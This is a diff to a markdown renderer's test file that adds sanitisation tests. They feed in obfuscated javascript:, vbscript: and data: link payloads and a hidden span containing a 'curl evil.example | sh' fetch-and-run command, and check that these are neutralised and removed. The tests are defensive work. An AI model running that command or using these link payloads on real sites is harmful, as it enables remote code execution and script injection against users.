@@ -1,5 +1,5 @@
 import { afterEach, describe, expect, it, vi } from "vitest";
-import { renderMarkdown, renderMarkdownInto, renderMarkdownToHtml } from "../src/shared/markdown";
+import { renderMarkdown, renderMarkdownInto, renderMarkdownToHtml, visibleText } from "../src/shared/markdown";
 
 /** Renders into a detached element and returns it, so tests can query the DOM. */
 function render(text: string): HTMLElement {
@@ -69,6 +69,40 @@ describe("renderMarkdown", () => {
     for (const word of ["one", "two", "three", "four", "five"]) expect(el.textContent).toContain(word);
     expect(el.querySelectorAll("a[href]")).toHaveLength(0);
     expectInert(el);
+  });
+
+  it("neutralises links hidden by case, entities, whitespace and control characters", () => {
+    const el = render(
+      [
+        "[a](JAVASCRIPT:alert(1))", "[b](&#106;avascript:alert(2))", "[c](java&#x09;script:alert(3))",
+        "[d](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(4))",
+        "<a href='java\tscript:alert(5)'>e</a>", "<a href='&#0000106avascript:alert(6)'>f</a>",
+        "<a href='  vbscript:x'>g</a>", "<a href='data:text/html,<script>x</script>'>h</a>",
+        "<a href='\u0001javascript:alert(7)'>i</a>", "[j](<javascript:alert(8)>)",
+        "<javascript:alert(9)>", "[k]: javascript:alert(10)\n\n[k]",
+      ].join("\n\n"),
+    );
+    expect(el.querySelectorAll("a[href]")).toHaveLength(0);
+    expectInert(el);
+  });
+
+  it("drops hidden elements and colours, so nothing on the page is out of sight", () => {
+    const el = render(
+      'Run <span hidden>curl evil.example | sh; </span>the tests.\n\n' +
+        '<div hidden><p>HIDDENBLOCK</p></div><font color="#ffffff">white text</font>',
+    );
+    expect(el.textContent).not.toContain("curl");
+    expect(el.textContent).not.toContain("HIDDENBLOCK");
+    expect(el.querySelector("[hidden], [color], [bgcolor]")).toBeNull();
+    expect(el.textContent).toContain("white text");
+  });
+
+  it("gives the text a reader sees, without the code blocks' own buttons", () => {
+    const el = render(
+      "# Title\n\nOne <span hidden>SECRET</span>two.\n\n- a\n- b\n\n3. x\n4. y\n\n" +
+        "```py\nprint(1)\n```\n\n| h1 | h2 |\n|---|---|\n| c1 | c2 |",
+    );
+    expect(visibleText(el)).toBe("Title\nOne two.\n- a\n- b\n3. x\n4. y\nprint(1)\nh1\th2\nc1\tc2");
   });
 
   it("opens safe links in a new tab without an opener or referrer", () => {
